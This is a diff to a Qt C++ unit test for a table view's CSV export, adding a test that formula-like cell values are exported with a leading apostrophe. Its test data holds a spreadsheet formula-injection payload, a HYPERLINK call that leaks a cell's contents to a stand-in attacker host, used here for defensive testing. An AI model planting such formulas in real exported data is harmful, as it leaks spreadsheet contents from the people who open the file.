@@ -1,3 +1,4 @@
+#include "ui/models/columns.h"
 #include "ui/models/recordtablemodel.h"
 #include "ui/widgets/tableview.h"
 
@@ -9,6 +10,20 @@
 class TestUiTableView : public QObject
 {
     Q_OBJECT
+
+    /// What the view's CSV export writes, or why it wrote nothing.
+    static QString exportedCsv(const rd::ui::TableView &view)
+    {
+        QTemporaryDir dir;
+        const QString path = dir.filePath(u"out.csv"_qs);
+        QString error;
+        if (!view.exportCsv(path, &error))
+            return u"(export failed: %1)"_qs.arg(error);
+        QFile f(path);
+        if (!f.open(QIODevice::ReadOnly))
+            return u"(not written)"_qs;
+        return QString::fromUtf8(f.readAll());
+    }
 
 private slots:
     void copyAndExportCsv()
@@ -28,13 +43,29 @@ private slots:
         view.setModel(&records);
         view.selectAll();
         QCOMPARE(view.selectionAsText(), u"key\tnote\nk1\tplain\nk2\twith, comma and \"quote\""_qs);
-        QTemporaryDir dir;
-        const QString path = dir.filePath(u"out.csv"_qs);
-        QVERIFY(view.exportCsv(path));
-        QFile f(path);
-        QVERIFY(f.open(QIODevice::ReadOnly));
-        QCOMPARE(QString::fromUtf8(f.readAll()),
-            u"key,note\nk1,plain\nk2,\"with, comma and \"\"quote\"\"\"\n"_qs);
+        QCOMPARE(
+            exportedCsv(view), u"key,note\nk1,plain\nk2,\"with, comma and \"\"quote\"\"\"\n"_qs);
+    }
+
+    /// A value from a provider or an operator that a spreadsheet would run as a formula is
+    /// exported with a leading apostrophe; a count stays a number, also a negative one.
+    void exportNeutralizesFormulas()
+    {
+        rd::ui::RecordTableModel records(2,
+            {{u"note"_qs,
+                 [](rd::ui::RowRef r, int role) {
+                     return role == Qt::DisplayRole ? r[0] : QVariant();
+                 }},
+                rd::ui::columns::count(u"count"_qs, 1)},
+            0);
+        records.setRows({u"=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"x\")"_qs, qint64(-3),
+            u"-3"_qs, qint64(4), u"@SUM(A1)"_qs, qint64(0), u"plain"_qs, qint64(1)});
+        rd::ui::TableView view;
+        view.setModel(&records);
+        QCOMPARE(exportedCsv(view),
+            u"note,count\n"
+            "\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A1,\"\"x\"\")\",-3\n"
+            "'-3,4\n'@SUM(A1),0\nplain,1\n"_qs);
     }
 
     /// Fitting the columns to a width: everything natural when it fits; otherwise the wide
